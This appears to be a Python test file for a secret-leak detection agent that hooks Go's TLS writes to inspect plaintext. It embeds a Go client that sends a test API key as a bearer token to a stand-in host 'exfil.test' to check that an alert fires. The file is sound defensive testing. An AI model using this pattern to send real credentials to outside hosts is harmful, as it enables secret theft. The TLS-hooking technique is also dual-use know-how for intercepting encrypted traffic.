"""Go crypto/tls plaintext (issue 5): a Go client built here from source, net/http over HTTP/2.

The agent hooks crypto/tls.(*Conn).Write at its entry (bpf/go_tls.bpf.c), located through the
symbol table or, in a stripped binary, through the runtime's .gopclntab. The Go binary is new to
the agent, so it is hooked when it is executed (the exe-attach hook); the client waits for a
go-file before it dials, and the test creates that file once the agent logged the hook (bounded
by ATTACH_TIMEOUT): the exec-to-probes latency is what the wait covers.
"""

import os
import shutil
import time
from pathlib import Path

import pytest

from kharness import golang

ALERT_TIMEOUT = 8.0
ATTACH_TIMEOUT = 5.0
QUIET_PERIOD = 3.0

# Stdlib only. The key comes from the environment, never argv (argv is in every alert).
GO_CLIENT = r'''package main

import (
	"context"
	"crypto/tls"
	"crypto/x509"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"time"
)

func main() {
	caFile, name, port, goFile := os.Args[1], os.Args[2], os.Args[3], os.Args[4]
	for i := 0; i < 200; i++ { // wait (10 s at most) until the test says the probe is attached
		if _, err := os.Stat(goFile); err == nil {
			break
		}
		time.Sleep(50 * time.Millisecond)
	}
	ca, err := os.ReadFile(caFile)
	if err != nil {
		fmt.Fprintln(os.Stderr, "reading CA:", err)
		os.Exit(2)
	}
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(ca)
	dialer := &net.Dialer{Timeout: 5 * time.Second}
	tr := &http.Transport{
		TLSClientConfig:   &tls.Config{RootCAs: pool, ServerName: name},
		ForceAttemptHTTP2: true,
		Proxy:             nil,
		DialContext: func(ctx context.Context, network, _ string) (net.Conn, error) {
			return dialer.DialContext(ctx, network, "127.0.0.1:"+port)
		},
	}
	client := &http.Client{Transport: tr, Timeout: 15 * time.Second}
	req, _ := http.NewRequest("GET", "https://"+name+":"+port+"/index.html", nil)
	req.Header.Set("Authorization", "Bearer "+os.Getenv("CS_TEST_KEY"))
	resp, err := client.Do(req)
	if err != nil {
		fmt.Fprintln(os.Stderr, "request failed")
		os.Exit(1)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	fmt.Println(resp.Proto)
}
'''


@pytest.fixture(scope="module")
def go_clients(tmp_path_factory):
    """The client built twice: with symbols, and stripped (-s -w)."""
    # Readable and executable by anyone: the binaries live outside pytest's 0700 tmp dirs.
    out = Path("/tmp") / f"credsentry-go-{os.getpid()}"
    out.mkdir(exist_ok=True)
    os.chmod(out, 0o755)
    yield golang.build(GO_CLIENT, tmp_path_factory.mktemp("goclient"),
                       {"goexfil": [], "goexfil-stripped": ["-ldflags=-s -w"]}, out)
    shutil.rmtree(out, ignore_errors=True)


def _openai(alert):
    return (alert.get("secret") or {}).get("provider") == "openai"


def _run_go_client(agent, clients, binary: Path, pki, port: int, name: str, key: str, scratch):
    """Starts the Go client in the test cgroup, releases it once the agent hooked its binary,
    and returns its completed result."""
    go_file = scratch / f"go-{binary.name}"
    proc = clients.start([str(binary), str(pki.ca), name, str(port), str(go_file)],
                         env={"CS_TEST_KEY": key})
    hooked = agent.wait_for_log(str(binary), timeout=ATTACH_TIMEOUT)
    go_file.touch()
    out, err = proc.communicate(timeout=30)
    clients._record([str(binary)], out, err)
    assert hooked, f"the agent never logged hooking {binary}\n{agent.diagnostics()}"
    assert proc.returncode == 0, f"Go client failed: {err.decode(errors='replace')[-500:]}"
    return out.decode()


@pytest.mark.parametrize("variant", ["goexfil", "goexfil-stripped"])
def test_go_http2_key_to_unexpected_name_alerts(variant, agent, clients, go_clients, h2_server,
                                                pki, registry, scratch):
    key = registry.new("openai")
    binary = go_clients[variant]
    proto = _run_go_client(agent, clients, binary, pki, h2_server, "exfil.test", key, scratch)
    assert proto.startswith("HTTP/2"), f"the Go client did not negotiate HTTP/2: {proto!r}"
    alerts = agent.wait_for_alerts(_openai, timeout=ALERT_TIMEOUT)
    assert alerts, f"no alert for a Go HTTP/2 request ({variant})\n{agent.diagnostics()}"
    alert = alerts[0]
    assert alert["destination"]["host"] == "exfil.test"
    assert alert["destination"]["name_source"] == "sni"
    assert alert["process"]["exe"] == str(binary)
    assert alert["secret"]["found_in"] == "tls-write"
    assert alert["secret"]["redacted"] != key


def test_go_http2_key_to_expected_name_is_quiet(agent, clients, go_clients, h2_server, pki,
                                                registry, scratch):
    key = registry.new("openai")
    binary = go_clients["goexfil-stripped"]
    _run_go_client(agent, clients, binary, pki, h2_server, "api.openai.com", key, scratch)
    time.sleep(QUIET_PERIOD)
    assert not [a for a in agent.alerts() if _openai(a)]
    # Not quiet by blindness: the agent saw the Go client's plaintext.
    assert any(e.get("type") == "tls_data" and e.get("comm", "").startswith("goexfil")
               for e in agent.trace_events()), agent.diagnostics()
